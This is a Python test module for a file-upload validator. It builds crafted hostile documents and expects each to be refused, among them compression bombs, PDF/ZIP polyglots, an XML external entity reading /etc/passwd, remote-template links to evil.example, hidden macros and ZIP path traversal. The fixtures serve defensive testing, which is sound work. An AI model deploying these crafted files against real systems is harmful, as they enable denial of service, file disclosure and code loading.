"""Files that are not what they seem, each with why it is refused."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO

from registry.platform.files.kinds import JPEG, MAIL, OPEN_TEXT, PDF, PLAIN, PNG, RTF, TIFF, WORD
from tests.support.documents import make_open_text, make_pdf, make_picture, make_word, repacked

Hostile = tuple[str, int, str, Callable[[], bytes]]
GOOD_PDF = make_pdf("A memorandum of agreement.")
GOOD_WORD = make_word("A memorandum of agreement.")
GOOD_OPEN_TEXT = make_open_text("<text:p>A memorandum of agreement.</text:p>")
GOOD_PICTURE = make_picture(width=40, height=40)
MAIN = "word/document.xml"
PARTS = {name: zipfile.ZipFile(BytesIO(GOOD_WORD)).read(name) for name in ("[Content_Types].xml", MAIN)}
BOMB = b" " * (96 * 2**20)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>&b;</w:body></w:document>'
)
OUTSIDE = LAUGHS.replace(b'"haha"', b'SYSTEM "file:///etc/passwd"')


def zipped(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def pdf_of(objects: Mapping[int, bytes]) -> bytes:
    """A PDF of these objects, with the table that says where each is."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(objects))
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(out)


def page_of(content: bytes, filters: bytes) -> bytes:
    """A PDF with one page that draws this."""
    stream = b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(content), filters, content)
    return pdf_of(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            4: stream,
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        }
    )


def pdf_bomb() -> bytes:
    """A page of 96 MiB of blanks, packed twice: some hundred bytes."""
    return page_of(zlib.compress(zlib.compress(BOMB, 9), 9), b"[/FlateDecode /FlateDecode]")


def pdf_and_zip() -> bytes:
    """A PDF that ends as one, with a ZIP archive before its end that any unpacker opens."""
    archive = zipped({"setup.exe": b"MZ"})
    behind = b"\n%%EOF"
    # The archive's comment reaches to the end of the file, over the PDF's last words.
    return GOOD_PDF + archive[:-2] + struct.pack("<H", len(behind)) + behind


def pdf_and_tar() -> bytes:
    """A PDF in whose first comment a tar header stands."""
    header = bytearray(512)
    header[:9] = b"%PDF-1.7\n"
    header[100:108], header[124:136], header[156:157] = b"0000644\0", b"00000000000\0", b"0"
    header[257:265] = b"ustar\x0000"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + GOOD_PDF


def word_with(**changes: bytes) -> Callable[[], bytes]:
    return lambda: repacked(GOOD_WORD, {name.replace("__", "/"): content for name, content in changes.items()})


def word_bomb_that_lies() -> bytes:
    """A part that says it is small, and is not."""
    packed = bytearray(repacked(GOOD_WORD, {"word/media/image1.bin": BOMB}))
    true, lie = struct.pack("<I", len(BOMB)), struct.pack("<I", 1000)
    return bytes(packed.replace(true, lie))


def word_locked() -> bytes:
    """What a word processor makes of a password: the older container, with the encrypted package in it."""
    names = "".join(f"{name}\0" for name in ("Root Entry", "EncryptionInfo", "EncryptedPackage"))
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + names.encode("utf-16-le") + bytes(2000)


def word_with_locked_part() -> bytes:
    """A ZIP whose parts are marked as encrypted."""
    packed = bytearray(GOOD_WORD)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = packed.find(mark)
        while start >= 0:
            packed[start + at] |= 1
            start = packed.find(mark, start + 4)
    return bytes(packed)


def workbook() -> bytes:
    kinds = zipfile.ZipFile(BytesIO(GOOD_WORD)).read("[Content_Types].xml")
    return repacked(GOOD_WORD, {"[Content_Types].xml": kinds.replace(b"wordprocessingml", b"spreadsheetml")})


def pages_without_end() -> bytes:
    """A tree of pages that is its own branch."""
    return pdf_of({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"})


def word_with_gap() -> bytes:
    """A web page between two parts, which the table of contents passes over."""
    page = b"<html>hello</html>"
    second = GOOD_WORD.find(b"PK\x03\x04", 4)
    moved = bytearray(GOOD_WORD[:second] + page + GOOD_WORD[second:])
    place = moved.find(b"PK\x01\x02")
    end = moved.rfind(b"PK\x05\x06")
    struct.pack_into("<I", moved, end + 16, place)
    while place < end:
        (offset,) = struct.unpack_from("<I", moved, place + 42)
        struct.pack_into("<I", moved, place + 42, offset + (len(page) if offset else 0))
        place += 46 + sum(struct.unpack_from("<3H", moved, place + 28))
    return bytes(moved)


def relations(kind: str, target: str) -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{office}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def repacked_open_text(content: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("mimetype", OPEN_TEXT)
        package.writestr("content.xml", content)
    return out.getvalue()


def vast_picture() -> bytes:
    """A picture that says it is a hundred thousand pixels wide and high."""
    header = b"IHDR" + struct.pack(">II5B", 100_000, 100_000, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header))


def endless_directory() -> bytes:
    sizes = struct.pack("<HHII", 256, 4, 1, 9) + struct.pack("<HHII", 257, 4, 1, 9)
    return struct.pack("<H", 2) + sizes + struct.pack("<I", 8)


HOSTILE: Mapping[str, Hostile] = {
    "nothing at all as PDF": (PDF, 422, "file_empty", lambda: b""),
    "nothing at all as text": (PLAIN, 422, "file_empty", lambda: b""),
    "noise as PDF": (PDF, 422, "file_not_pdf", lambda: b"\x93\x07" * 500),
    "text as PDF": (PDF, 422, "file_not_pdf", lambda: b"This is a memorandum of agreement."),
    "a PDF that is cut off": (PDF, 422, "file_damaged", lambda: GOOD_PDF[: len(GOOD_PDF) // 2]),
    "a PDF with something behind it": (PDF, 422, "file_damaged", lambda: GOOD_PDF + b"<script>alert(1)</script>"),
    "a PDF with something before it": (PDF, 415, "content_mismatch", lambda: b"GIF89a" + GOOD_PDF),
    "a PDF with noise before it": (PDF, 422, "file_not_pdf", lambda: b"\x00\x01" + GOOD_PDF),
    "a PDF without pages": (
        PDF,
        422,
        "file_damaged",
        lambda: pdf_of({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
    ),
    "a PDF of nothing but a frame": (PDF, 422, "file_damaged", lambda: b"%PDF-1.7\n%%EOF"),
    "a PDF whose pages never end": (PDF, 422, "file_damaged", pages_without_end),
    "a PDF with a password": (PDF, 422, "file_encrypted", lambda: make_pdf("Secret.", password="open sesame")),
    "a PDF that is a bomb": (PDF, 422, "file_expands_too_far", pdf_bomb),
    "a PDF that is a ZIP too": (PDF, 422, "file_ambiguous", pdf_and_zip),
    "a PDF that is a tar too": (PDF, 422, "file_ambiguous", pdf_and_tar),
    "a PDF that is a RAR too": (
        PDF,
        422,
        "file_ambiguous",
        lambda: GOOD_PDF[:9] + b"%Rar!\x1a\x07\x00\n" + GOOD_PDF[9:],
    ),
    "a Word document as PDF": (PDF, 415, "content_mismatch", lambda: GOOD_WORD),
    "a PDF as a Word document": (WORD, 415, "content_mismatch", lambda: GOOD_PDF),
    "a picture as PDF": (PDF, 415, "content_mismatch", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100)),
    "a program as PDF": (PDF, 415, "content_mismatch", lambda: b"\x7fELF" + bytes(100)),
    "a web page as text": (PLAIN, 415, "content_mismatch", lambda: b"\n <!DOCTYPE html><script>alert(1)</script>"),
    "a PDF as text": (PLAIN, 415, "content_mismatch", lambda: GOOD_PDF),
    "text in Latin-1": (PLAIN, 422, "file_not_text", lambda: "Añoka".encode("latin-1")),
    "text with NUL": (PLAIN, 422, "file_not_text", lambda: b"one\x00two"),
    "text of little but controls": (PLAIN, 422, "file_not_text", lambda: b"\x1b[2J\x1b[1mone\x07"),
    "noise as a Word document": (WORD, 422, "file_damaged", lambda: b"\x93\x07" * 500),
    "a ZIP that is no document": (WORD, 422, "file_damaged", lambda: zipped({"readme": b"hello"})),
    "a workbook as a Word document": (WORD, 415, "content_mismatch", workbook),
    "an older Word document": (
        WORD,
        415,
        "content_mismatch",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000),
    ),
    "a Word document that is cut off": (WORD, 422, "file_damaged", lambda: GOOD_WORD[: len(GOOD_WORD) // 2]),
    "a Word document with a flipped bit": (
        WORD,
        422,
        "file_damaged",
        lambda: GOOD_WORD[:3000] + bytes([GOOD_WORD[3000] ^ 4]) + GOOD_WORD[3001:],
    ),
    "a Word document with something before it": (WORD, 415, "content_mismatch", lambda: b"#!/bin/sh\n" + GOOD_WORD),
    "a Word document with blanks before it": (WORD, 422, "file_ambiguous", lambda: bytes(64) + GOOD_WORD),
    "a Word document with something behind it": (
        WORD,
        422,
        "file_ambiguous",
        lambda: GOOD_WORD[:-2] + b"\x04\x00MZ!!",
    ),
    "a Word document with a web page behind it": (
        WORD,
        422,
        "file_ambiguous",
        lambda: GOOD_WORD + b"<html>hello</html>",
    ),
    "a Word document with a PDF behind it": (WORD, 422, "file_ambiguous", lambda: GOOD_WORD + GOOD_PDF),
    "a Word document with a web page between its parts": (WORD, 422, "file_ambiguous", word_with_gap),
    "a Word document with a template from elsewhere": (
        WORD,
        422,
        "file_loads_template",
        word_with(**{"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/x.dotm")}),
    ),
    "a Word document with a template from a share": (
        WORD,
        422,
        "file_loads_template",
        word_with(**{"word/_rels/settings.xml.rels": relations("attachedTemplate", "\\\\evil\\x.dotm")}),
    ),
    "a Word document with macros under another name": (
        WORD,
        422,
        "file_has_macros",
        lambda: repacked(
            GOOD_WORD,
            {
                "[Content_Types].xml": PARTS["[Content_Types].xml"].replace(
                    b"</Types>",
                    b'<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            },
        ),
    ),
    "an OpenDocument text with macros": (
        OPEN_TEXT,
        422,
        "file_has_macros",
        lambda: make_open_text("<text:p>x</text:p>", **{"Basic/Standard/Module1.xml": b""}),
    ),
    "an OpenDocument text with a PDF behind it": (OPEN_TEXT, 422, "file_ambiguous", lambda: GOOD_OPEN_TEXT + GOOD_PDF),
    "an OpenDocument text as a Word document": (WORD, 415, "content_mismatch", lambda: GOOD_OPEN_TEXT),
    "an OpenDocument text with an entity": (
        OPEN_TEXT,
        422,
        "file_damaged",
        lambda: repacked_open_text(LAUGHS),
    ),
    "an RTF with a template from elsewhere": (
        RTF,
        422,
        "file_loads_template",
        lambda: rb"{\rtf1{\*\template http://evil.example/x}hello}",
    ),
    "an RTF with a web page behind it": (
        RTF,
        422,
        "file_ambiguous",
        lambda: rb"{\rtf1 hello}<script>alert(1)</script>",
    ),
    "an RTF that is cut off": (RTF, 422, "file_damaged", lambda: rb"{\rtf1 hello{\b world}"),
    "an RTF that nests without end": (RTF, 422, "file_damaged", lambda: rb"{\rtf1 " + b"{" * 5000 + b"}" * 5001),
    "text as an e-mail": (MAIL, 422, "file_damaged", lambda: b"This is a memorandum of agreement.\n"),
    "a picture that is cut off": (PNG, 422, "file_damaged", lambda: GOOD_PICTURE[:-20]),
    "a picture with a flipped bit": (PNG, 422, "file_damaged", lambda: GOOD_PICTURE[:60] + b"\x00" + GOOD_PICTURE[61:]),
    "a picture of more than can be": (PNG, 422, "file_expands_too_far", lambda: vast_picture()),
    "a picture that is a ZIP too": (PNG, 422, "file_ambiguous", lambda: GOOD_PICTURE + zipped({"setup.exe": b"MZ"})),
    "a picture of another kind": (PNG, 415, "content_mismatch", lambda: b"GIF89a" + bytes(100)),
    "a JPEG without pixels": (JPEG, 422, "file_damaged", lambda: b"\xff\xd8\xff\xd9"),
    "a TIFF whose pages never end": (TIFF, 422, "file_damaged", lambda: b"II*\0\x08\0\0\0" + endless_directory()),
    "a Word document with a password": (WORD, 422, "file_encrypted", word_locked),
    "a Word document with a locked part": (WORD, 422, "file_encrypted", word_with_locked_part),
    "a Word document with macros": (WORD, 422, "file_has_macros", word_with(word__vbaProject_bin=b"Sub AutoOpen")),
    "a Word document that is a bomb": (WORD, 422, "file_expands_too_far", word_with(word__media__image1=BOMB)),
    "a bomb that lies about its size": (WORD, 422, "file_damaged", word_bomb_that_lies),
    "a billion laughs": (WORD, 422, "file_damaged", word_with(**{"word__document.xml": LAUGHS})),
    "an entity from outside": (WORD, 422, "file_damaged", word_with(**{"word__document.xml": OUTSIDE})),
    "a Word document of broken XML": (WORD, 422, "file_damaged", word_with(**{"word__document.xml": b"<w:p>"})),
    "parts packed as no document's are": (WORD, 422, "file_damaged", lambda: zipped(PARTS, zipfile.ZIP_LZMA)),
    "a part that leads elsewhere": (WORD, 422, "file_damaged", word_with(**{"..__..__etc__passwd": b"root"})),
    "a part on another drive": (WORD, 422, "file_damaged", word_with(**{"C:\\x": b"x"})),
    "two parts of one name": (WORD, 422, "file_damaged", word_with(**{"WORD__DOCUMENT.XML": b"<x/>"})),
    "too many parts": (
        WORD,
        422,
        "file_expands_too_far",
        word_with(**{f"word__{number}": b"" for number in range(4100)}),
    ),
}
